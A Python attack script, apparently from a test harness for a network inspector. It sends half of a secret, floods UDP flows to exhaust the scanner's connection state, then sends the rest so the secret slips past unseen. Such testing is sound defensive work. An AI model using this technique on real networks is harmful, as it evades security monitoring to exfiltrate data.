"""A flood of flows, to make a scanner forget what it knows of one.

`way`: `tail` (between two halves of a value), `tcp` and `udp` (between `token`, which only the
inspector can decide and which gets the flow blocked, and `after`, which is clean: nothing but
the block stops it).
"""

from __future__ import annotations

import ipaddress
import itertools
import socket
import time

from attacks.target import DISCARD, Target, refused

PER_SOCKET = 50_000
DECIDED = 0.5  # seconds until the inspector has spoken


def main(target: Target) -> None:
    """Send, flood, send."""
    if target.args["way"] == "tail":
        value, half = target.secret, len(target.secret) // 2
        first, second = b"order 17, card " + value[:half], value[half:] + b", thanks\n"
    else:
        first = b"token " + target.secrets["token"].encode() + b" \n"
        second = b"a clean text: " + target.secrets["after"].encode() + b"\n"
    with connected(target, udp=target.args["way"] == "udp") as out:
        with refused():
            out.sendall(first)
        time.sleep(DECIDED)
        flood(target)
        with refused():
            out.sendall(second)
        time.sleep(DECIDED)


def connected(target: Target, *, udp: bool) -> socket.socket:
    """The flow that is not to be forgotten."""
    if not udp:
        return target.tcp(timeout=5)
    made = socket.socket(target.af, socket.SOCK_DGRAM)
    made.connect((target.address, target.port))
    return made


def flood(target: Target) -> None:
    """A datagram to each of many addresses, from as many ports as it takes."""
    network = ipaddress.IPv4Network(target.flooded)
    left = target.flows
    while left > 0:
        count = min(left, PER_SOCKET)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            for address in itertools.islice(network.hosts(), count):
                with refused():
                    out.sendto(b"a clean datagram of one more flow", (str(address), DISCARD))
        left -= count
